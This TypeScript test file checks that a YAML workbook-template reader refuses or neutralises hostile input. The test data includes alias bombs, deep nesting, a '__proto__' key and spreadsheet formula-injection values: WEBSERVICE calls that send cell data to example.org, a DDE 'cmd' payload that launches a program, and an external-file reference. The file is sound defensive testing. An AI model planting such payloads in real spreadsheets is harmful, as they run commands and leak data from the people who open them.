/** A colleague's file is hostile until it is read: size, depth, aliases, keys, and what would reach out of the workbook. */
import { longestBook, readOwnBook } from "../../src/authoring/ownBook";
import { tokensOf } from "../../src/sharing/formulaText/tokens";
import type { Template } from "../../src/templates/template";
import { layTemplate } from "../../src/workbook/layTemplate";

const sound = `order: 1
prefix: Own_
document: { title: A letter }
title: Silver
question: Does it hold?
inputs:
  - heading: Figures
    inputs:
      Own_price: { label: Price, value: 76.93, unit: USD/oz, document: ¶ 1 }
results: []
blocks:
  - heading: Calculation
    lines:
      Own_double: { label: Twice, formula: =2*Own_price, unit: USD/oz }
claims:
  - { row: A-01, claim: It doubles., printed: 153.86, rebuilt: =Own_double, unit: USD/oz }
`;

const told = (text: string) => readOwnBook("letter", text).faults.map(({ en }) => en);
const changed = (from: string, to: string) => {
  expect(sound).toContain(from);
  return told(sound.replace(from, to));
};

test("a sound one is read, in one language", () => {
  const { template, faults } = readOwnBook("letter", sound);
  expect(faults).toEqual([]);
  expect(template?.title).toEqual({ en: "Silver", tw: "Silver", cn: "Silver" });
  expect(template?.documents[0]).toMatchObject({ number: "A", title: "A letter" });
});

test.each([
  ["a file that is too long", `${sound}# ${"x".repeat(longestBook)}`, /^The file holds more than 4000000 characters/],
  ["brackets without an end", `title: ${"[".repeat(200_000)}`, /^(The file is nested too deeply|Line 1: )/],
  ["lists in lists", `title: ${"- ".repeat(50_000)}x`, /^(The file is nested too deeply|Line 1: )/],
  [
    "lists in lists on a line of their own",
    `title:\n  ${"- ".repeat(50_000)}x`,
    /^(The file is nested too deeply|Line )/,
  ],
  [
    "aliases that grow",
    `a: &a [x,x,x,x,x,x,x,x,x]\n${"bcdefgh".replace(/./g, (key) => `${key}: &${key} [${`*${String.fromCharCode(key.charCodeAt(0) - 1)},`.repeat(9)}]\n`)}`,
    /^Line 1: Excessive alias count/,
  ],
  ["no YAML at all", "\u0000\u0001", /^Line 1: /],
  ["a list in place of a book", "- 1\n- 2\n", /^Line 1: the book is/],
] as const)("%s is refused", (_, text, sentence) => expect(told(text)[0]).toMatch(sentence));

test("what would end a text of a formula does not", () => {
  const link = 'https://example.org/"&WEBSERVICE(1)&"';
  const changed = sound
    .replace("unit: USD/oz }\nclaims", `unit: '"&WEBSERVICE(1)&"' }\nclaims`)
    .replace("results: []", `results: [Own_double]\nsources: [{ what: A, source: B, link: '${link}' }]`);
  const { template, faults } = readOwnBook("letter", changed);
  expect(faults).toEqual([]);
  const cells = layTemplate(template as Template, "en").sheets.flatMap((sheet) => sheet.cells);
  const asking = cells.filter(({ content }) => typeof content === "string" && content.includes("WEBSERVICE"));
  expect(asking.length).toBeGreaterThan(2);
  for (const { content } of asking)
    if (String(content).startsWith("="))
      expect(tokensOf(String(content)).some(({ kind, text }) => kind === "operand" && /WEBSERVICE/.test(text))).toBe(
        false,
      );
});

test("a paragraph that begins as a formula does is laid as text", () => {
  const changed = sound.replace("{ title: A letter }", '{ title: A, text: ["=1+1", "= NAV per unit"] }');
  const { template, faults } = readOwnBook("letter", changed);
  expect(faults).toEqual([]);
  const cells = layTemplate(template as Template, "en").sheets.flatMap((sheet) => sheet.cells);
  const paragraphs = cells.filter(({ content }) => content === "=1+1" || content === "= NAV per unit");
  expect(paragraphs.map(({ format }) => format)).toEqual(["@", "@"]);
});

test.each([
  ["a key that no book has", "results: []", "results: []\nmacro: x", /"macro" is no item of the book/],
  ["a key of the language itself", "results: []", "results: []\n__proto__: { order: 1 }", /"__proto__" is no item/],
  ["a text that is a formula", "label: Price", 'label: "=1+1"', /label is a text that begins as a formula does/],
  ["a unit that is a formula", "unit: USD/oz, document", 'unit: "=1", document', /unit is a text that begins/],
  [
    "a formula that asks a server",
    "=2*Own_price",
    '=WEBSERVICE("https://example.org/"&Own_price)',
    /reaches out of the workbook: WEBSERVICE/,
  ],
  [
    "a formula that asks a program",
    "formula: =2*Own_price",
    "formula: \"=cmd|'/c calc'!A0\"",
    /reaches out of the workbook: /,
  ],
  [
    "a formula that reads a file",
    "formula: =2*Own_price",
    'formula: "=[other.xlsx]Sheet1!A1*Own_price"',
    /reaches out of the workbook: \[other/,
  ],
  [
    "a condition that asks a server",
    "printed: 153.86",
    'printed: 153.86, holds: "WEBSERVICE(1)=rebuilt"',
    /holds reaches out/,
  ],
  [
    "an answer that asks a server",
    "results: []",
    'results: []\nanswer: "It is {WEBSERVICE(1)&Own_double|0}."',
    /answer reaches out of the workbook: WEBSERVICE/,
  ],
  ["a name that nothing defines", "=2*Own_price", "=2*Own_prize", /Line 14: Nothing is named Own_prize/],
  ["a claim about a document of ours", "row: A-01", "row: 2-38", /documents.yaml has no document of row 2-38/],
  [
    "a word with a quotation mark",
    "results: []",
    "results: []\nwords: { up: 'a\"&1&\"' }",
    /words › up is a word for formulas/,
  ],
] as const)("%s is refused", (_, from, to, sentence) => expect(changed(from, to).join("\n")).toMatch(sentence));
